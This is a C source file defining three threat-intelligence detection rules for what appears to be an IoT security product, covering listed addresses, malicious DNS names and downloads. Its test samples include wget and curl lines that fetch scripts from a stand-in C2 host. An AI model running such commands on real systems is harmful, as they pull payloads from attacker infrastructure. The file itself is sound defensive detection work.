#include "detect/command_facts.h"
#include "detect/rule.h"

/* The first indicator of those that match is told; a second says the same. */
struct listed {
    struct judging *judging;
    struct finding *finding;
    struct text cause;
    const char *field, *clause;
    struct text seen;
};

static void listed_add(void *context, struct text feed, struct text value)
{
    struct listed *listed = context;
    struct arena *arena = listed->judging->arena;

    if (!listed->finding)
        listed->finding = finding_add(listed->judging, listed->cause);
    finding_reason(listed->finding, listed->field, text_of(arena_format(arena, "%s as %.*s, by %.*s", listed->clause, TEXT_ARGS(value), TEXT_ARGS(feed))), listed->seen);
}

static void judge_connection(struct judging *judging)
{
    const struct event *event = judging->event;
    struct listed listed = {.judging = judging, .cause = event->remote_address, .field = "RemoteAddress", .clause = "it is listed", .seen = event->remote_address};

    if (judging->indicators && event->remote_address.count)
        (void)indicators_find_ip(judging->indicators, event->remote_address, event->direction == EVENT_IN ? 0 : event->remote_port, listed_add, &listed);
}

static void judge_name_query(struct judging *judging)
{
    const struct event *event = judging->event;
    struct listed listed = {.judging = judging, .cause = event->domain, .field = "Domain", .clause = "it is listed", .seen = event->domain};

    if (judging->indicators && event->domain.count && indicators_find_domain(judging->indicators, event->domain, listed_add, &listed))
        finding_entity(listed.finding, FINDING_DOMAIN, event->domain);
}

/* The URL itself, its host by name or by address, and the hash of what runs. */
static void judge_download(struct judging *judging)
{
    const struct event *event = judging->event;

    if (!judging->indicators)
        return;
    if (event->hash.count) {
        struct listed listed = {.judging = judging, .cause = event->hash, .field = "Hash", .clause = "the program is listed", .seen = event->hash};
        if (indicators_find_hash(judging->indicators, event->hash, listed_add, &listed))
            finding_entity(listed.finding, FINDING_HASH, event->hash);
    }
    for (size_t i = 0; i < judging->line->count; i++) {
        struct text source, target, host;
        if (!command_downloads(&judging->line->commands[i], &source, &target) || !source.count)
            continue;
        host = url_host(source);
        struct listed listed = {.judging = judging, .cause = host, .field = "CommandLine", .clause = "the source of a download is listed", .seen = source};
        if (!indicators_find_url(judging->indicators, source, listed_add, &listed) && !indicators_find_ip(judging->indicators, host, 0, listed_add, &listed))
            (void)indicators_find_domain(judging->indicators, host, listed_add, &listed);
        if (listed.finding)
            finding_entity(listed.finding, FINDING_URL, source);
    }
}

static const char *const off_the_network[] = {"Take the device off the network until it is known what asked for the name.", "Block the name at the resolver.",
                                              "Hand over to the security team, with the process if it is known.", NULL};

/* What the samples match is listed by tests and canaries as they need: see detect/rule_samples.h. */
static const struct rule_sample connection_samples[] = {
    {true, "ConnectionCreate {\"RemoteAddress\":\"203.0.113.66\",\"RemotePort\":\"48101\",\"Direction\":\"Out\",\"Protocol\":\"tcp\"}"},
    {true, "NetworkActivity {\"LocalAddress\":\"10.0.0.4\",\"RemoteAddress\":\"203.0.113.66\",\"LocalPort\":50112,\"RemotePort\":23,\"Protocol\":\"TCP\"}"},
    {false, "ConnectionCreate {\"RemoteAddress\":\"203.0.113.67\",\"RemotePort\":\"48101\",\"Direction\":\"Out\",\"Protocol\":\"tcp\"}"},
    {false, "Login {\"RemoteAddress\":\"203.0.113.66\",\"Result\":\"Fail\",\"UserName\":\"x\"}"},
};
static const struct rule_sample name_samples[] = {
    {true, "DnsRequest {\"Domain\":\"c2.malware.example\"}"},
    {true, "NetworkActivity {\"dns_query\":\"A.C2.malware.example.\"}"},
    {false, "DnsRequest {\"Domain\":\"notc2.malware.example\"}"},
    {false, "DnsRequest {\"Domain\":\"malware.example\"}"},
};
static const struct rule_sample download_samples[] = {
    {true, "$ wget http://203.0.113.66/bins.sh"},
    {true, "$ curl -o /tmp/x https://dl.c2.malware.example/x"},
    {false, "$ wget http://203.0.113.67/bins.sh"},
    {false, "$ ping 203.0.113.66"},
};

const struct rule rule_ti_connection = {
    .id = "IoT_TiConnection",
    .title = "Traffic with an address that is listed as a threat",
    .severity = "Medium",
    .tactics = "CommandAndControl",
    .techniques = "T1071, T0885",
    .fires = "A connection with an address, or with an address and port, of one of the feeds that are loaded.",
    .spares = "The next address; another port where one is listed; what warning lists know as harmless; indicators whose time is over.",
    .needs = "Connections, and a feed.",
    .tuning = "Warning lists; the confidence that a feed's indicators must have; an exception for an address.",
    .remediation = rule_block_address,
    .kinds = EVENT_BIT(EVENT_CONNECTION),
    .asks_indicators = true,
    .judge = judge_connection,
    RULE_SAMPLES(connection_samples),
};

const struct rule rule_malicious_name = {
    .id = "IoT_MaliciousNameQueriesDetection",
    .title = "A name was looked up that is listed as a threat",
    .severity = "Medium",
    .tactics = "CommandAndControl",
    .techniques = "T1071.004, T1568, T0885",
    .fires = "A question to DNS for a name of one of the feeds that are loaded, or for one below it.",
    .spares = "Names above it; longer names that only end in the same letters.",
    .needs = "DNS questions, and a feed.",
    .tuning = "Warning lists; an exception for a name.",
    .remediation = off_the_network,
    .kinds = EVENT_BIT(EVENT_NAME_QUERY),
    .asks_indicators = true,
    .judge = judge_name_query,
    RULE_SAMPLES(name_samples),
};

const struct rule rule_possible_malware = {
    .id = "IoT_PossibleMalware",
    .title = "A download from a source that is listed as a threat, or a program that is",
    .severity = "Medium",
    .tactics = "Execution, CommandAndControl",
    .techniques = "T1105, T1204.002, T0863",
    .fires = "A download by wget, curl, tftp and their like whose URL or host is listed by one of the feeds; a program whose hash is.",
    .spares = "Other commands that name the host; downloads from elsewhere.",
    .needs = "Processes with their command lines (hashes where the agent sends them), and a feed.",
    .tuning = "Warning lists; an exception for a host.",
    .remediation = rule_ask_urgent,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .asks_indicators = true,
    .judge = judge_download,
    RULE_SAMPLES(download_samples),
};
